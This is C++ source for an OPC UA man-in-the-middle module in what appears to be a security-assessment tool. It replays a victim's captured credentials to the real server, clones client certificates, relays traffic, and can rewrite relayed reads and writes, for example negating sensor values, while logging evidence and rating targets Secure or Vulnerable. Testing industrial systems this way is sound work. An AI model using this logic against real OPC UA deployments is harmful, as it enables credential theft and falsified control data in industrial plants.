#include "uatrust/attacks/middleperson.hpp"

#include "uatrust/attacks/rogue_client.hpp"

namespace uatrust::attacks {

using client::ClientErrc;
using client::ClientError;
using codec::DataValue;
using codec::MessageSecurityMode;
using codec::ServiceBody;

struct Middleperson::Upstream {
    std::mutex mutex;  // one victim session is relayed strictly in order
    std::optional<client::Session> session;
    std::string user;
    std::uint64_t requests = 0;
};

namespace {

bool secure(MessageSecurityMode m) { return m == MessageSecurityMode::Sign || m == MessageSecurityMode::SignAndEncrypt; }

template <class Response>
void take_handle(Response& r, const codec::RequestHeader& victim)
{
    r.response_header.request_handle = victim.request_handle;
    r.response_header.timestamp = codec::DateTime::now();
}

}  // namespace

Manipulation negate_reads_of(codec::NodeId node)
{
    Manipulation m;
    m.on_read = [node](const codec::NodeId& id, DataValue& dv) {
        if (id != node || !dv.value) return;
        if (auto* d = dv.value->get_if<double>()) dv.value = codec::Variant(-*d);
        else if (auto* f = dv.value->get_if<float>()) dv.value = codec::Variant(-*f);
        else if (auto* i = dv.value->get_if<std::int32_t>()) dv.value = codec::Variant(static_cast<std::int32_t>(-*i));
        else if (auto* l = dv.value->get_if<std::int64_t>()) dv.value = codec::Variant(static_cast<std::int64_t>(-*l));
    };
    return m;
}

std::unique_ptr<Middleperson> Middleperson::start(const TargetDescriptor& target, MiddlepersonOptions options)
{
    std::unique_ptr<Middleperson> mp(new Middleperson());
    mp->target_ = target;
    mp->options_ = std::move(options);
    mp->log_.attack = AttackKind::Middleperson;

    RogueServerOptions ro;
    ro.host = mp->options_.host;
    ro.port = mp->options_.port;
    ro.identity = mp->options_.server_identity;
    ro.generator = mp->options_.generator;
    ro.transcript = mp->options_.transcript;
    Middleperson* self = mp.get();
    ro.authenticate = [self](const server::AuthRequest& r) { return self->replay(r); };
    ro.intercept = [self](server::ServiceCall& c) { return self->relay(c); };
    mp->front_ = RogueServer::start(target, std::move(ro));
    return mp;
}

Middleperson::~Middleperson() { stop(); }

void Middleperson::stop()
{
    if (front_) front_->stop();
    std::map<codec::NodeId, std::shared_ptr<Upstream>> ups;
    {
        std::lock_guard lock(mutex_);
        ups.swap(upstream_);
    }
    for (auto& [token, up] : ups) {
        std::lock_guard lock(up->mutex);
        if (!up->session) continue;
        record_traffic(*up);
        up->session->close();
        up->session.reset();
    }
}

void Middleperson::record_traffic(Upstream& up)
{
    if (up.requests == 0) return;
    auto& ch = up.session->channel();
    std::lock_guard lock(mutex_);
    log_.add(EvidenceKind::ForwardedTraffic, Side::Client,
             std::to_string(up.requests) + " victim requests relayed through the attacker",
             {{"user", up.user},
              {"requests", std::to_string(up.requests)},
              {"upstream_bytes_sent", std::to_string(ch.bytes_sent())},
              {"upstream_bytes_received", std::to_string(ch.bytes_received())}});
    up.requests = 0;
}

const pki::Identity& Middleperson::upstream_identity(const std::optional<pki::CertificateRecord>& victim_cert)
{
    std::lock_guard lock(mutex_);
    if (options_.client_identity) return *options_.client_identity;
    if (victim_cert) {
        auto it = clones_.find(victim_cert->thumbprint);
        if (it == clones_.end()) it = clones_.emplace(victim_cert->thumbprint, pki::clone_certificate(*victim_cert)).first;
        return it->second;
    }
    if (!fresh_) fresh_ = fresh_attacker_identity();
    return *fresh_;
}

StatusCode Middleperson::replay(const server::AuthRequest& r)
{
    // the upstream endpoint mirrors the victim's choice when the target offers it
    std::optional<codec::EndpointDescription> ep;
    for (const auto& e : target_.endpoints)
        if (e.security_mode == r.channel.mode && e.security_policy_uri.value_or("") == r.channel.security_policy_uri &&
            secure(e.security_mode))
            ep = e;
    try {
        if (!ep) ep = target_.endpoints.at(client::select_endpoint(target_.endpoints));
    } catch (const std::exception&) {
        std::lock_guard lock(mutex_);
        log_.attempts.push_back({"Replay", target_.url(), StepResult::Failed, status::BadSecurityPolicyRejected,
                                 "target has no usable endpoint"});
        return status::Good;
    }

    const bool anonymous = r.token_type != codec::UserTokenType::UserName;
    const auto victim_cert = r.session.client_certificate ? r.session.client_certificate : r.channel.client_certificate;
    const pki::Identity& identity = upstream_identity(victim_cert);

    client::ClientConfig cfg;
    cfg.identity = identity;
    cfg.application_uri = identity.certificate.application_uri;
    cfg.application_name = r.session.client_description.application_name.text.value_or("client");
    cfg.trust_policy = pki::TrustPolicy::accept_all();
    cfg.user = anonymous ? client::UserIdentity::anonymous() : client::UserIdentity::user(r.user_name, r.password);
    cfg.dial.timeout = options_.upstream_timeout;
    cfg.dial.dial_override = target_.dial_endpoint();
    std::size_t n;
    {
        std::lock_guard lock(mutex_);
        n = log_.captures.size() + 1;
    }
    cfg.dial.transcript = std::make_shared<net::Transcript>("middleperson-upstream-" + std::to_string(n));
    const std::string where = ep->endpoint_url.value_or(target_.url()) + " " + codec::to_string(ep->security_mode);
    const std::string who = anonymous ? std::string("anonymous") : r.user_name;

    auto up = std::make_shared<Upstream>();
    up->user = who;
    std::optional<ClientError> failure;
    try {
        up->session.emplace(client::Session::connect(*ep, cfg));
    } catch (const ClientError& e) {
        failure = e;
    }

    std::lock_guard lock(mutex_);
    log_.captures.push_back(cfg.dial.transcript);
    log_.transcripts.push_back(cfg.dial.transcript->label());
    if (failure) {
        const bool trust = failure->code() == ClientErrc::ProtocolError &&
                           (failure->status() == status::BadCertificateUntrusted ||
                            failure->status() == status::BadSecurityChecksFailed ||
                            failure->status() == status::BadCertificateInvalid);
        const bool auth = failure->code() == ClientErrc::AuthFailed;
        log_.attempts.push_back({"Replay", where,
                                 trust  ? StepResult::TrustRejected
                                 : auth ? StepResult::AuthRejected
                                        : StepResult::Failed,
                                 failure->status(), who + ": " + failure->what()});
        if (auth && !anonymous) {
            replay_refused_ = true;
            return failure->status();  // the victim sees what the real server said
        }
        return status::Good;  // keep the victim talking to fabricated data
    }
    const auto& ch = up->session->channel();
    if (secure(ep->security_mode))
        log_.add(EvidenceKind::UntrustedChannelAccepted, Side::Server,
                 "real server accepted the attacker's client certificate",
                 {{"endpoint", where},
                  {"attacker_thumbprint", pki::to_hex(identity.certificate.thumbprint)},
                  {"attacker_subject", identity.certificate.subject},
                  {"transcript", ch.transcript()->label()}});
    log_.attempts.push_back({"Replay", where, StepResult::Succeeded, status::Good, who});
    log_.add(EvidenceKind::SessionReplayed, Side::Server,
             anonymous ? "forwarding-only session opened anonymously" : "session opened with stolen credentials of " + who,
             {{"user", who}, {"endpoint", where}, {"mode", codec::to_string(ep->security_mode)}});
    if (anonymous) log_.notes.push_back("victim authenticated anonymously; forwarding-only variant, nothing replayed");
    upstream_[r.session.authentication_token] = std::move(up);
    return status::Good;
}

std::optional<ServiceBody> Middleperson::relay(server::ServiceCall& call)
{
    if (!call.session) return std::nullopt;
    std::shared_ptr<Upstream> up;
    {
        std::lock_guard lock(mutex_);
        auto it = upstream_.find(call.session->authentication_token);
        if (it == upstream_.end()) return std::nullopt;
        up = it->second;
    }
    std::lock_guard order(up->mutex);
    if (!up->session) return std::nullopt;
    auto& ch = up->session->channel();
    const auto& token = up->session->handle().authentication_token;

    try {
        if (auto* rq = std::get_if<codec::ReadRequest>(&call.request)) {
            const codec::RequestHeader victim = rq->request_header;
            ServiceBody answer = ch.call(*rq, token);
            ++up->requests;
            if (auto* f = std::get_if<codec::ServiceFault>(&answer)) {
                take_handle(*f, victim);
                return answer;
            }
            auto* resp = std::get_if<codec::ReadResponse>(&answer);
            if (!resp) return std::nullopt;
            take_handle(*resp, victim);
            for (std::size_t i = 0; i < resp->results.size() && i < rq->nodes_to_read.size(); ++i) {
                const auto& node = rq->nodes_to_read[i].node_id;
                auto& dv = resp->results[i];
                front_->observe_real(node, dv);
                if (!options_.manipulate.on_read) continue;
                const DataValue real = dv;
                options_.manipulate.on_read(node, dv);
                if (dv == real) continue;
                std::lock_guard lock(mutex_);
                log_.add(EvidenceKind::ValueManipulated, Side::Client, "rewrote a relayed read of " + node.to_string(),
                         {{"node", node.to_string()},
                          {"real", real.value ? real.value->to_string() : "null"},
                          {"shown", dv.value ? dv.value->to_string() : "null"}});
            }
            return answer;
        }
        if (auto* wq = std::get_if<codec::WriteRequest>(&call.request)) {
            const codec::RequestHeader victim = wq->request_header;
            codec::WriteRequest forward = *wq;
            for (auto& w : forward.nodes_to_write) {
                if (!options_.manipulate.on_write) break;
                const codec::WriteValue original = w;
                options_.manipulate.on_write(w);
                if (w == original) continue;
                std::lock_guard lock(mutex_);
                log_.add(EvidenceKind::ValueManipulated, Side::Server, "rewrote a relayed write to " + w.node_id.to_string(),
                         {{"node", w.node_id.to_string()},
                          {"requested", original.value.value ? original.value.value->to_string() : "null"},
                          {"written", w.value.value ? w.value.value->to_string() : "null"}});
            }
            ServiceBody answer = ch.call(forward, token);
            ++up->requests;
            if (auto* f = std::get_if<codec::ServiceFault>(&answer)) take_handle(*f, victim);
            if (auto* resp = std::get_if<codec::WriteResponse>(&answer)) take_handle(*resp, victim);
            return answer;
        }
        if (auto* unknown = std::get_if<codec::UnknownService>(&call.request)) {
            auto [header, rest] = codec::split_request_header(*unknown);
            const codec::RequestHeader victim = header;
            header.authentication_token = token;
            ServiceBody answer = ch.call(codec::join_request_header(unknown->type_id, header, rest), token);
            ++up->requests;
            if (auto* f = std::get_if<codec::ServiceFault>(&answer)) take_handle(*f, victim);
            return answer;
        }
    } catch (const ClientError& e) {
        // upstream lost: from here on the victim is served fabricated data
        std::lock_guard lock(mutex_);
        log_.attempts.push_back({"Relay", target_.url(), StepResult::Failed, e.status(), e.what()});
        upstream_.erase(call.session->authentication_token);
        return std::nullopt;
    } catch (const codec::CodecError&) {
        return std::nullopt;
    }
    return std::nullopt;
}

AttackOutcome Middleperson::outcome() const
{
    AttackOutcome o = front_->outcome();
    o.attack = AttackKind::Middleperson;
    std::vector<std::shared_ptr<Upstream>> ups;
    {
        std::lock_guard lock(mutex_);
        for (const auto& [token, up] : upstream_) ups.push_back(up);
    }
    std::vector<Evidence> traffic;
    for (const auto& up : ups) {
        std::lock_guard order(up->mutex);
        if (!up->session || up->requests == 0) continue;
        auto& ch = up->session->channel();
        traffic.push_back({EvidenceKind::ForwardedTraffic, Side::Client,
                           std::to_string(up->requests) + " victim requests relayed through the attacker",
                           {{"user", up->user},
                            {"requests", std::to_string(up->requests)},
                            {"upstream_bytes_sent", std::to_string(ch.bytes_sent())},
                            {"upstream_bytes_received", std::to_string(ch.bytes_received())}}});
    }
    std::lock_guard lock(mutex_);
    o.evidence.insert(o.evidence.end(), log_.evidence.begin(), log_.evidence.end());
    o.evidence.insert(o.evidence.end(), traffic.begin(), traffic.end());
    o.attempts.insert(o.attempts.end(), log_.attempts.begin(), log_.attempts.end());
    o.notes.insert(o.notes.end(), log_.notes.begin(), log_.notes.end());
    o.captures.insert(o.captures.end(), log_.captures.begin(), log_.captures.end());
    o.transcripts.insert(o.transcripts.end(), log_.transcripts.begin(), log_.transcripts.end());
    for (const auto& [t, id] : clones_) o.attacker_certificates.push_back(id.certificate.thumbprint);
    if (fresh_) o.attacker_certificates.push_back(fresh_->certificate.thumbprint);
    if (options_.client_identity) o.attacker_certificates.push_back(options_.client_identity->certificate.thumbprint);
    o.notes.push_back("interception is simulated by redirecting the victim to the attacker's listener");

    if (replay_refused_ && !o.has(EvidenceKind::SessionReplayed)) o.result = AttackResult::Inconclusive;
    else o.result = o.evidence.empty() ? AttackResult::Secure : AttackResult::Vulnerable;
    return o;
}

}  // namespace uatrust::attacks
